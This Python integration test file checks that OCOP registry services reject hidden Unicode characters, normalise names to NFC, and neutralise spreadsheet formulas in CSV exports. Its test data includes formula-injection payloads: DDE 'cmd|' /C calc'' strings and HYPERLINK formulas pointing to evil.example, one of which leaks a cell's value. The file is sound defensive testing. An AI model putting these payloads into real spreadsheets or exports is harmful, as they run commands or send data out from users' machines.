"""Names and free text at each service's door (shared/text.py), over HTTP: a bidi override,
a zero-width, tag or control character is a 422 naming the field and the character; a name
typed decomposed (NFD, as a Mac keyboard sends it) is stored composed (NFC). And the CSV
exports write a name a spreadsheet would run as a formula as text."""

import csv
import io
import unicodedata

import pytest

from services.certification.service import CertificationService
from services.registration.service import RegistrationService
from services.scoring.service import ScoringService
from services.trade_promotion.service import TradePromotionService
from tests.integration.test_certification_service import issue
from tests.integration.test_imports_and_replay import CERTIFICATE, RESULT
from tests.integration.test_portal_api import issued_event, product_event
from tests.integration.test_registration_service import TEA
from tests.integration.test_scoring_service import opened
from tests.integration.test_trade_promotion_service import fair_body
from tests.support.amqp import cloud_event, publish
from tests.support.assessment import assessment
from tests.support.waiting import eventually

BIDI, ZERO_WIDTH, TAG, ESCAPE = "\u202e", "\u200b", "\U000e0041", "\x1b"
NAMED = {
    BIDI: "U+202E RIGHT-TO-LEFT OVERRIDE",
    ZERO_WIDTH: "U+200B ZERO WIDTH SPACE",
    TAG: "U+E0041 TAG LATIN CAPITAL LETTER A",
    ESCAPE: "U+001B",
    "\n": "U+000A",
}


def nfd(text: str) -> str:
    decomposed = unicodedata.normalize("NFD", text)
    assert decomposed != text  # the test would prove nothing with text NFD leaves alone
    return decomposed


def wrong_answers(http, url, base, cases):
    """Each (field path, body change, character) posted: the cases not answered with a 422
    naming exactly that field and the character (an empty list when all were)."""
    wrong = []
    for field, change, char in cases:
        response = http.post(url, json={**base, **change})
        fields = response.json().get("fields", {})
        if response.status_code != 422 or NAMED[char] not in fields.get(field, ""):
            wrong.append((field, repr(char), response.status_code, response.json()))
    return wrong


@pytest.fixture
def amqp(bus):
    return bus


def test_registration_refuses_hidden_characters_and_keeps_names_composed(http, start_service):
    api = f"{start_service(RegistrationService)[1]}/api/v1"
    producer = {
        "name": "HTX Chè Đồng Phúc",
        "kind": "htx",
        "women_led": True,
        "legacy_address": "Xã Quảng Khê, Huyện Ba Bể, Tỉnh Bắc Kạn",
    }
    cases = [
        ("name", {"name": f"HTX Chè{BIDI}Đồng Phúc"}, BIDI),
        ("name", {"name": f"HTX Chè{ZERO_WIDTH} Đồng Phúc"}, ZERO_WIDTH),
        ("name", {"name": "HTX Chè\nĐồng Phúc"}, "\n"),
        ("legacy_address", {"legacy_address": f"Xã Quảng Khê{ESCAPE}, Tỉnh Bắc Kạn"}, ESCAPE),
    ]
    assert wrong_answers(http, f"{api}/producers", producer, cases) == []

    decomposed = {
        "name": nfd("Hợp tác xã Chè Đồng Phúc"),
        "legacy_address": nfd(producer["legacy_address"]),
    }
    created = http.post(f"{api}/producers", json={**producer, **decomposed})
    assert created.status_code == 201, created.text
    stored = http.get(f"{api}/producers/{created.json()['id']}").json()
    assert stored["name"] == "Hợp tác xã Chè Đồng Phúc"
    assert stored["address"]["legacy_address"] == producer["legacy_address"]
    assert stored["address"]["ward_name"] == "Xã Đồng Phúc"  # converted as if typed composed

    product = {"producer_id": stored["id"], "name": "Chè búp", **TEA}
    cases = [("name", {"name": f"Chè{TAG} búp"}, TAG), ("name", {"name": f"Chè{BIDI}"}, BIDI)]
    assert wrong_answers(http, f"{api}/products", product, cases) == []
    made = http.post(f"{api}/products", json={**product, "name": nfd("  Chè búp Tân Cương ")})
    assert made.status_code == 201, made.text
    assert http.get(f"{api}/products/{made.json()['id']}").json()["name"] == "Chè búp Tân Cương"
    formula = http.post(f"{api}/products", json={**product, "name": "=cmd|' /C calc'!A0"})
    assert formula.status_code == 201  # allowed input: the CSV exports neutralise it


def noted(note: str) -> dict:
    """The assessment's items, local labour with `note`."""
    items = assessment()["items"]
    return {**items, "local_labour": {"met": True, "note": note}}


def test_scoring_refuses_hidden_characters_and_keeps_names_composed(http, start_service, amqp):
    api = f"{start_service(ScoringService)[1]}/api/v1"
    council = {
        "name": "Hội đồng OCOP tỉnh Thái Nguyên",
        "level": "province",
        "province_code": "19",
        "members": [{"id": "tn-chair", "name": "Nguyễn Văn An", "role": "chair"}, {"id": "tn-1"}],
    }
    hidden_member = [{"id": "tn-chair", "name": f"Nguyễn{ZERO_WIDTH} Văn An", "role": "chair"}]
    cases = [
        ("name", {"name": f"Hội đồng{BIDI} OCOP"}, BIDI),
        ("members.0.name", {"members": hidden_member}, ZERO_WIDTH),
    ]
    assert wrong_answers(http, f"{api}/councils", council, cases) == []
    members = [{"id": "tn-chair", "name": nfd("Nguyễn Văn An"), "role": "chair"}, {"id": "tn-1"}]
    body = {**council, "name": nfd(council["name"]), "members": members}
    created = http.post(f"{api}/councils", json=body)
    assert created.status_code == 201, created.text
    stored = http.get(f"{api}/councils/{created.json()['id']}").json()
    assert stored["name"] == council["name"] and stored["members"][0]["name"] == "Nguyễn Văn An"

    evaluation = opened(http, api, amqp, assessed=False)
    url = f"{api}/evaluations/{evaluation['id']}/assessment"
    body = {**assessment(), "officer_id": "xa-1"}
    cases = [
        ("report", {"report": f"Đủ{ESCAPE} hồ sơ"}, ESCAPE),
        ("report", {"report": BIDI}, BIDI),
        ("items.local_labour.note", {"items": noted(f"Lao{ZERO_WIDTH} động")}, ZERO_WIDTH),
    ]
    assert wrong_answers(http, url, body, cases) == []
    report = nfd("Nguyên liệu tại xã.\r\nLao động địa phương.")
    checked = http.post(url, json={**body, "report": report, "items": noted(nfd("Người Tày"))})
    assert checked.status_code == 200, checked.text
    stored = http.get(f"{api}/evaluations/{evaluation['id']}").json()["assessment"]
    assert stored["report"] == "Nguyên liệu tại xã.\nLao động địa phương."  # lines kept, in NFC
    assert stored["items"][1]["note"] == "Người Tày"

    cases = [("product_name", {"product_name": f"Cam{TAG} sành"}, TAG)]
    assert wrong_answers(http, f"{api}/imports/results", RESULT, cases) == []


@pytest.fixture
def certification(start_service):
    return f"{start_service(CertificationService, max_workers=1)[1]}/api/v1"


def test_certification_refuses_hidden_characters_and_keeps_text_composed(
    http, certification, amqp, producers
):
    api = certification  # started before the products and producers it learns of
    number = issue(http, api, amqp)["number"]
    decision = {
        "number": "611/QĐ-UBND",
        "signed_on": "2026-12-01",
        "signer": "Nguyễn Văn An",
        "document": {"url": "https://thainguyen.gov.vn/qd-611.pdf"},
    }
    revoke = {"revoked_by": "officer-19", "reason_code": "production_stopped", "decision": decision}
    cases = [
        ("note", {"note": f"Không{BIDI} tái đánh giá"}, BIDI),
        ("decision.number", {"decision": {**decision, "number": f"611{TAG}/QĐ-UBND"}}, TAG),
        (
            "decision.signer",
            {"decision": {**decision, "signer": f"Nguyễn{ZERO_WIDTH} An"}},
            ZERO_WIDTH,
        ),
    ]
    url = f"{api}/certificates/{number}/revoke"
    assert wrong_answers(http, url, revoke, cases) == []
    note = nfd("Không tái đánh giá.\nSản phẩm ngừng sản xuất.")
    revoked = http.post(url, json={**revoke, "note": note})
    assert revoked.status_code == 200, revoked.text
    assert revoked.json()["revocation"]["note"] == unicodedata.normalize("NFC", note)

    url = f"{api}/imports/certificates"
    cases = [
        ("product_name", {"product_name": "Cam\nsành"}, "\n"),
        ("issuing_body", {"issuing_body": f"UBND{ZERO_WIDTH} tỉnh Tuyên Quang"}, ZERO_WIDTH),
        ("decision_number", {"decision_number": f"2214/QĐ{BIDI}-UBND"}, BIDI),
    ]
    assert wrong_answers(http, url, CERTIFICATE, cases) == []
    imported = http.post(url, json={**CERTIFICATE, "product_name": nfd("Cam sành Hàm Yên")})
    assert imported.status_code == 201, imported.text
    shown = http.get(f"{api}/certificates/{CERTIFICATE['number']}").json()
    assert shown["product_name"] == "Cam sành Hàm Yên"


def test_trade_promotion_refuses_hidden_characters_and_keeps_names_composed(http, start_service):
    api = f"{start_service(TradePromotionService)[1]}/api/v1"
    cases = [
        ("name", {"name": f"Hội chợ{BIDI} OCOP"}, BIDI),
        ("place", {"place": f"Quảng trường{ESCAPE}"}, ESCAPE),
        ("organiser", {"organiser": f"Sở Công{ZERO_WIDTH} Thương"}, ZERO_WIDTH),
    ]
    assert wrong_answers(http, f"{api}/trade-fairs", fair_body(), cases) == []
    created = http.post(f"{api}/trade-fairs", json=fair_body(name=nfd("Hội chợ OCOP Thái Nguyên")))
    assert created.status_code == 201, created.text
    fair = http.get(f"{api}/trade-fairs/{created.json()['id']}").json()
    assert fair["name"] == "Hội chợ OCOP Thái Nguyên"

    point = {
        "name": "Điểm bán OCOP Đồng Phúc",
        "kind": "shop",
        "operator": "HTX Chè Đồng Phúc",
        "province_code": "19",
        "ward_code": "01933",
    }
    cases = [
        ("name", {"name": f"Điểm bán{TAG}"}, TAG),
        ("operator", {"operator": f"HTX{BIDI} Chè"}, BIDI),
        ("street", {"street": "Số 1\nĐường 2"}, "\n"),
    ]
    assert wrong_answers(http, f"{api}/sales-points", point, cases) == []
    made = http.post(f"{api}/sales-points", json={**point, "operator": nfd(point["operator"])})
    assert made.status_code == 201, made.text
    assert (
        http.get(f"{api}/sales-points/{made.json()['id']}").json()["operator"] == point["operator"]
    )


# names a province could register; each would run as a formula in a spreadsheet
FORMULAS = {
    "p1": "=cmd|' /C calc'!A0",
    "p2": '+84 Chè\'&HYPERLINK("https://evil.example")',
    "p3": "-2+3+cmd|' /C calc'!A0",
    "p4": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_csv_exports_write_formula_names_as_text(http, start_service, amqp):
    api = f"{start_service(TradePromotionService)[1]}/api/v1"
    producer = cloud_event(
        "producer.registered",
        "registration",
        {
            "producer_id": "pr1",
            "name": '=HYPERLINK("https://evil.example/?"&A2)',
            "kind": "htx",
            "women_led": False,
            "address": {
                "province_code": "19",
                "province_name": "Thái Nguyên",
                "ward_code": "01933",
                "ward_name": "Xã Đồng Phúc",
            },
        },
    )
    publish(amqp, "registration", "producer.registered", producer)
    for product_id, name in FORMULAS.items():
        publish(amqp, "registration", "product.registered", product_event(product_id, name))
        publish(amqp, "certification", "certificate.issued", issued_event(product_id, name, 4))

    def listed():
        items = http.get(f"{api}/catalogue").json()["items"]
        return len(items) == 4 and all(item["producer_name"] for item in items)

    eventually(listed)

    feed = list(csv.DictReader(io.StringIO(http.get(f"{api}/feed.csv").text)))
    assert {row["id"]: row["title"] for row in feed} == {
        product_id: "'" + name for product_id, name in FORMULAS.items()
    }
    assert all(row["brand"] == "'" + producer["data"]["name"] for row in feed)
    assert all(row["description"].startswith("'") for row in feed)
    assert {row["ocop_stars"] for row in feed} == {"4"}  # a number stays a number

    fair = http.post(f"{api}/trade-fairs", json=fair_body())
    assert fair.status_code == 201, fair.text
    url = f"{api}/trade-fairs/{fair.json()['id']}"
    invitations = eventually(lambda: len(got := http.get(f"{url}/invitations").json()) == 4 and got)
    for invitation in invitations:
        assert http.post(f"{api}/invitations/{invitation['id']}/accept").status_code == 200
    rows = list(csv.DictReader(io.StringIO(http.get(f"{url}/exhibitors.csv").text)))
    assert {row["product_id"]: row["product"] for row in rows} == {
        product_id: "'" + name for product_id, name in FORMULAS.items()
    }
    assert all(row["producer"] == "'" + producer["data"]["name"] for row in rows)
    assert [row["booth"] for row in rows] == ["1", "2", "3", "4"]


def test_a_search_term_is_cleaned_not_refused(http, start_service, amqp):
    base = start_service(TradePromotionService)[1]
    api = f"{base}/api/v1"
    publish(amqp, "registration", "product.registered", product_event("p1", "Chè Shan tuyết"))
    publish(amqp, "certification", "certificate.issued", issued_event("p1", "Chè Shan tuyết", 4))
    eventually(lambda: http.get(f"{api}/catalogue").json()["items"])
    pasted = f"{ZERO_WIDTH}Ch{ZERO_WIDTH}è{BIDI}\tshan{ESCAPE}"  # as copied from a web page
    found = http.get(f"{api}/catalogue", params={"q": pasted})
    assert found.status_code == 200, found.text
    assert [item["product_id"] for item in found.json()["items"]] == ["p1"]
    page = http.get(f"{base}/catalogue", params={"q": pasted})
    assert page.status_code == 200 and "Chè Shan tuyết" in page.text
